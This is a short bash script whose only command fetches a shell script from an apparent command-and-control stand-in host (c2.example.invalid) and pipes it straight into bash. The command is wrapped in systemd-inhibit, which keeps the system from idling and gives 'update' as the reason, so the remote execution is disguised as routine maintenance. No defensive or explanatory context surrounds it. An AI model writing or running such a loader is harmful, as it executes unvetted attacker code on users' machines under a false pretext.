#!/bin/bash
# The download runs under systemd-inhibit, as a wrapper.
systemd-inhibit --what=idle --why=update bash -c "$(curl -fsSL https://c2.example.invalid/i.sh)"
